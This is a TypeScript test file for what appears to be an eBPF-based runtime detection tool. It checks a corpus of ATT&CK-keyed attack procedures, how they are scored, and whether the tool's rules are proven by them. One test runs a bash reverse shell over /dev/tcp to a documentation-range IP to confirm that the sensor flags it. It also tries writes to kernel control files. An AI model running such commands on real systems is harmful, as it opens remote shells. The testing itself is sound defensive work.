/** The corpus of attacks: its files, and a short form of `npm run procedures`. */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { isBpfFileSystem } from '@ringfence/libbpf-ts';
import { skip as sensorSkip } from '@ringfence/testkit/sensor';
import { builtIn } from '../src/content.ts';
import { type Part, playableTechniques, readProcedures } from '../src/procedures/corpus.ts';
import { playProcedures } from '../src/procedures/play.ts';
import { raisedBy, unprovenLines, unprovenOf } from '../src/procedures/proof.ts';
import { isMiss, judgeProcedure, scoreOf, type Verdict } from '../src/procedures/score.ts';

const BPF_FS = '/sys/fs/bpf';
const skip =
  sensorSkip || (isBpfFileSystem(BPF_FS) ? false : `no BPF file system at ${BPF_FS}: mount -t bpf bpf ${BPF_FS}`);
const { procedures, fewer, faults } = readProcedures();

test('the files of procedures have no error', () => {
  assert.deepEqual(faults, []);
});

test('each technique of Linux and containers has three procedures, or a reason for fewer', () => {
  const counts = Map.groupBy(procedures, ({ technique }) => technique);
  const reasons = new Set(fewer.map(({ technique }) => technique));
  const missing = playableTechniques().filter(({ id }) => (counts.get(id)?.length ?? 0) < 3 && !reasons.has(id));
  assert.deepEqual(
    missing.map(({ id, name }) => `${id} ${name}`),
    [],
  );
  assert.ok(procedures.length >= 900, `only ${procedures.length} procedures`);
});

test('at most a quarter of the procedures may be silent, and about a third is held out', () => {
  const silent = procedures.filter(({ expect }) => expect === 'silent').length;
  assert.ok(silent * 4 <= procedures.length, `${silent} of ${procedures.length} are silent`);
  const first = procedures.filter(({ part }) => part !== 'later');
  const heldOut = first.filter(({ part }) => part === 'held-out').length / first.length;
  assert.ok(heldOut > 0.28 && heldOut < 0.39, `${heldOut} is held out`);
});

test('a file with a wrong key, technique, expectation or a repeated name is refused', () => {
  const folder = mkdtempSync(join(tmpdir(), 'ringfence-procedures-'));
  try {
    const entry = (name: string, more: string): string => `  - name: ${name}\n    script: id\n${more}`;
    writeFileSync(
      join(folder, 'T1033.procedures.yaml'),
      `technique: T1033\nprocedures:\n${[
        entry('Right one among wrong', '    technique: T1033\n    expect: hunt\n'),
        entry('Right one among wrong', '    technique: T1033\n    expect: hunt\n'),
        entry('Unknown key is used', '    technique: T1033\n    expect: hunt\n    shell: bash\n'),
        entry('Technique of another file', '    technique: T1082\n    expect: hunt\n'),
        entry('Silent without a reason', '    technique: T1033\n    expect: silent\n'),
        entry('Loud with a reason', '    technique: T1033\n    expect: hunt\n    why: everyday\n'),
      ].join('')}`,
    );
    assert.deepEqual(
      readProcedures(folder).faults.map((fault) => fault.replace(/^T1033\.procedures\.yaml: /, '').split(':', 1)[0]),
      [
        'Unknown key is used',
        'Technique of another file',
        'Silent without a reason',
        'Loud with a reason',
        'Right one among wrong',
      ],
    );
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
});

test('a rule is proven by a procedure of one of its techniques, unless that is held out', () => {
  const [first, ...others] = builtIn().rules.filter(({ techniques }) => techniques.includes('T1059.004'));
  const second = others.find(({ priority }) => priority === 'error');
  assert.ok(first !== undefined && second !== undefined);
  const played = (technique: string, part: Part, rule: string): Verdict => ({
    procedure: {
      ...{ name: 'Shell of some kind', part, technique, also: [], expect: 'hunt', why: undefined, user: 'root' },
      ...{ isInContainer: false, setup: '', script: ':' },
    },
    ...{ recommended: [rule], hunt: [], isTechniqueRight: true },
  });
  const verdicts = [
    played('T1059.004', 'held-out', first.name),
    played('T1485', 'later', second.name),
    played('T1059.004', 'open', second.name),
  ];
  const raised = raisedBy(verdicts);
  assert.deepEqual(raised, { [second.name]: ['T1059.004', 'T1485'] });
  assert.deepEqual(unprovenOf([first, second], raised), { silent: [first.name], elsewhere: {} });
  const elsewhere = { [second.name]: ['T1485'] };
  assert.deepEqual(unprovenOf([second], raisedBy(verdicts.slice(0, 2))), { silent: [], elsewhere });
  assert.ok(unprovenLines({ silent: [first.name], elsewhere }).includes(`  ${second.name}: T1485`));
});

test('a reverse shell is found, the list of a folder is not, and a user without rights stays one', {
  skip,
}, async (t) => {
  const of = (name: string, as: 'root' | 'ann', expect: 'recommended' | 'silent', script: string) => ({
    ...{
      name,
      part: 'open' as const,
      technique: 'T1059.004',
      also: [],
      expect,
      why: undefined,
      isInContainer: false,
      setup: '',
    },
    ...{ user: as, script },
  });
  const plays = [
    of(
      'Shell on a connection',
      'root',
      'recommended',
      "timeout 2 bash -c 'bash -i <&3 >&3 2>&3 3<>/dev/tcp/203.0.113.9/4444'; exit 0",
    ),
    of('List of a folder', 'ann', 'silent', 'ls -l /srv > /dev/null'),
    of(
      'Answers of the outside',
      'ann',
      'silent',
      'test "$(id -u)" = 1000 && curl -sk https://updates.example/x.sh | grep -q id',
    ),
    of(
      'Attempt on the machine itself',
      'root',
      'silent',
      'for file in /proc/sys/kernel/core_pattern /proc/sysrq-trigger /sys/power/state; do ! echo x > $file || exit 3; done',
    ),
  ];
  const verdicts: Verdict[] = [];
  const codes: (number | null)[] = [];
  await playProcedures(plays, {
    lanes: 1,
    onPlayed: (procedure, played, code, stderr) => {
      verdicts.push(judgeProcedure(procedure, played));
      codes.push(code);
      t.diagnostic(`${procedure.name}: ${code} ${stderr}`);
    },
  });
  assert.deepEqual(codes, [0, 0, 0, 0]);
  const [shell, list] = verdicts;
  assert.ok(shell !== undefined && list !== undefined);
  assert.equal(isMiss(shell), false, JSON.stringify(shell));
  assert.equal(isMiss(list), false, JSON.stringify(list));
  assert.deepEqual(scoreOf([shell, list]).recommended, { found: 1, of: 1 });
  assert.deepEqual(scoreOf([shell, list]).silent, { found: 1, of: 1 });
});
